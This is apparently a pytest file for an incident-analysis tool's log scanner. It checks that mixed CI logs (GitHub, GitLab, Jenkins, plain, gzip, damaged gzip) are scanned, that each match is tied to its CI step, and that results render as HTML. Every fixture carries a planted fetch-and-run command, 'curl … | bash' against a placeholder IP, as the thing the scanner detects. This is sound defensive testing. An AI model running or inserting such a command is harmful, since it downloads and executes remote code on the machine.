"""The "logs" section over every mix of log kinds in one case: CI step markers of each system, none, empty, gzip,
damaged gzip. Each pair (and all of them together) is analysed and rendered; nothing raises, and each match carries
the step of its own file (or None)."""

from __future__ import annotations

import gzip
import itertools
from pathlib import Path

import pytest

from workbench.analysis import AnalysisContext
from workbench.case import Case
from workbench.collect import collect_evidence
from workbench.logscan import analyse, render

EVIL = "curl -sSL http://203.0.113.7/p.sh | bash"


def _gz(text: str) -> bytes:
    return gzip.compress(text.encode(), mtime=0)


def _damaged() -> bytes:
    body = "".join(f"2026-11-18T22:14:{i % 60:02d}Z step {i}\n" for i in range(3000)) + f"{EVIL}\n"
    data = _gz(f"{EVIL}\n" + body)
    return data[: len(data) // 2]  # cut: the first line (a match) was read before the damage


#: name -> (content, the step expected on the file's first match, or None; "no match" for a file without one)
KINDS: dict[str, tuple[bytes, str | None]] = {
    "github.log": (f"2026-11-18T22:14:03Z ##[group]Run install\n2026-11-18T22:14:04Z {EVIL}\n".encode(), "Run install"),
    "gitlab.log": (f"\x1b[0Ksection_start:1731924843:deps\r\x1b[0KInstall deps\n{EVIL}\n".encode(), "Install deps"),
    "jenkins.log": (f"[Pipeline] {{ (Deploy)\n[2026-11-21T14:02:11.123Z] {EVIL}\r\n".encode(), "Deploy"),
    "plain.log": (f"just output\n{EVIL}\n".encode(), None),
    "empty.log": (b"", "no match"),
    "stepped.log.gz": (_gz(f"##[group]Zipped step\n{EVIL}\n"), "Zipped step"),
    "damaged.log.gz": (_damaged(), None),
}


def _case(root: Path, names: tuple[str, ...]) -> Path:
    (root / "logs").mkdir(parents=True)
    for name in names:
        (root / "logs" / name).write_bytes(KINDS[name][0])
    (root / "case.yaml").write_text("incident_id: INC-MIX-1\n", encoding="utf-8")
    return root


def _run(root: Path):
    case = Case.open(root)
    result = analyse(AnalysisContext(case=case, evidence=collect_evidence(case)))
    return result, render(result)


MIXES = [*itertools.combinations(sorted(KINDS), 2), tuple(sorted(KINDS))]


@pytest.mark.parametrize("names", MIXES, ids=["+".join(m) for m in MIXES])
def test_every_mix_is_analysed_and_rendered(tmp_path: Path, names: tuple[str, ...]) -> None:
    result, items = _run(_case(tmp_path / "case", names))
    matches = result.data["matches"]
    for name in names:
        expected = KINDS[name][1]
        mine = matches[matches["path"] == f"logs/{name}"]
        if expected == "no match":
            assert mine.empty
            continue
        assert not mine.empty, name
        assert mine["group"].iloc[0] == expected  # None stays None, not NaN
    html = "".join(i for i in items if isinstance(i, str))
    assert html.count('class="wb-logmatch"') == len(matches)
    for name in names:
        step = KINDS[name][1]
        if step not in (None, "no match"):
            assert f"<i>step: {step}</i>" in html
    assert "step: nan" not in html and "step: None" not in html


def test_damaged_gzip_keeps_its_match_and_warns(tmp_path: Path) -> None:
    result, _items = _run(_case(tmp_path / "case", ("damaged.log.gz", "github.log")))
    damaged = [w for w in result.warnings if w.path == "logs/damaged.log.gz"]
    assert damaged and any("gzip" in w.reason for w in damaged)
    assert (result.data["matches"]["path"] == "logs/damaged.log.gz").sum() == 1


def test_group_column_is_none_outside_steps(tmp_path: Path) -> None:
    result, _items = _run(_case(tmp_path / "case", ("plain.log", "github.log")))
    groups = dict(zip(result.data["matches"]["path"], result.data["matches"]["group"], strict=True))
    assert groups == {"logs/github.log": "Run install", "logs/plain.log": None}
    assert result.data["matches"]["group"].dtype == object
